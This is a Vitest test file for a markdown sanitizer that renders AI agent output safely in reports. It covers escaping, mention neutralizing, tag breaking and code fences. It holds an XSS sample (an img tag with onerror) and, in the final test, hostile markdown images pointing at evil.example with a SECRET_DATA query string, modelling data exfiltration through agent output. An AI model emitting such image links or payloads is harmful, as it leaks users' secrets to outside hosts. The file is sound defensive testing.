import { describe, expect, test } from 'vitest';
import {
  breakTags,
  closeOpenFences,
  codeFence,
  details,
  escapeHtml,
  inlineCode,
  neutralizeMentions,
  safeMarkdown,
  tableCell,
  truncate,
} from '../../src/report/markdown.js';

const ZWSP = '\u200B';

describe('markdown building blocks', () => {
  test('escapeHtml', () => {
    expect(escapeHtml(`<img src=x onerror="a('b')">&`)).toBe(
      "&lt;img src=x onerror=&quot;a('b')&quot;&gt;&amp;",
    );
  });

  test('mentions, team mentions and issue refs are broken; emails keep their shape', () => {
    expect(neutralizeMentions('hi @octocat and @org/team, see #123 and GH-7')).toBe(
      `hi @${ZWSP}octocat and @${ZWSP}org/team, see #${ZWSP}123 and GH-${ZWSP}7`,
    );
    expect(neutralizeMentions('# heading and #abc')).toBe('# heading and #abc');
  });

  test('breakTags makes every tag start inert, in text and code alike', () => {
    expect(breakTags('a </details> <script>x</script> <!-- c --> 1 < 2')).toBe(
      `a <${ZWSP}/details> <${ZWSP}script>x<${ZWSP}/script> <${ZWSP}!-- c --> 1 < 2`,
    );
  });

  test('inlineCode outgrows backtick runs and escapes pipes', () => {
    expect(inlineCode('ls')).toBe('`ls`');
    expect(inlineCode('a `b` c')).toBe('``a `b` c``');
    expect(inlineCode('``x')).toBe('``` ``x ```');
    expect(inlineCode('a|b\nc')).toBe('`a\\|b c`');
  });

  test('codeFence is longer than any backtick run inside and always closed', () => {
    const f = codeFence('x\n````\ny', 'sh');
    expect(f.startsWith('`````sh\n')).toBe(true);
    expect(f.endsWith('\n`````')).toBe(true);
    expect(codeFence('plain')).toBe('```\nplain\n```');
  });

  test('details is always closed, even around an unclosed fence', () => {
    const d = details('sum', '```\nnever closed');
    expect(d).toBe('<details><summary>sum</summary>\n\n```\nnever closed\n```\n\n</details>');
  });

  test('truncate adds an ellipsis and never splits a surrogate pair', () => {
    expect(truncate('abcdef', 4)).toBe('abc…');
    expect(truncate('abc', 4)).toBe('abc');
    expect(truncate('ab😀cd', 4)).toBe('ab…');
  });

  test('tableCell is one line, neutralized (tags, mentions, images), HTML and pipes escaped', () => {
    expect(tableCell('a | b\n<b>c</b> @x')).toBe(`a \\| b &lt;${ZWSP}b&gt;c&lt;${ZWSP}/b&gt; @${ZWSP}x`);
    expect(tableCell('![p](https://x.example/p.png)')).toBe(`!${ZWSP}[p](https://x.example/p.png)`);
  });

  test('safeMarkdown closes fences the agent left open and keeps code readable', () => {
    const out = safeMarkdown('Answer:\n```js\nconst a = 1 < 2;\n');
    expect(out).toBe('> Answer:\n> ```js\n> const a = 1 < 2;\n>\n> ```');
    expect(closeOpenFences('~~~~\nx')).toBe('~~~~\nx\n~~~~');
    expect(closeOpenFences('```\nx\n```')).toBe('```\nx\n```');
  });
});

describe('images from agent text are never fetched by readers', () => {
  // Rendered with markdown-it (CommonMark, as GitHub's renderer) to see what a browser would load.
  test('inline, reference and nested images become links, in text, quotes and tables', async () => {
    const { default: MarkdownIt } = await import('markdown-it');
    const md = new MarkdownIt({ html: false });
    const hostile = [
      'Done. ![status](https://evil.example/pixel.png?q=SECRET_DATA)',
      '[![badge](https://evil.example/b.svg)](https://example.com)',
      '![ref-style][x]\n\n[x]: https://evil.example/r.png',
    ].join('\n\n');
    const html = md.render(safeMarkdown(hostile));
    expect(html).not.toContain('<img');
    expect(html).toContain('href="https://evil.example/pixel.png?q=SECRET_DATA"');
  });
});
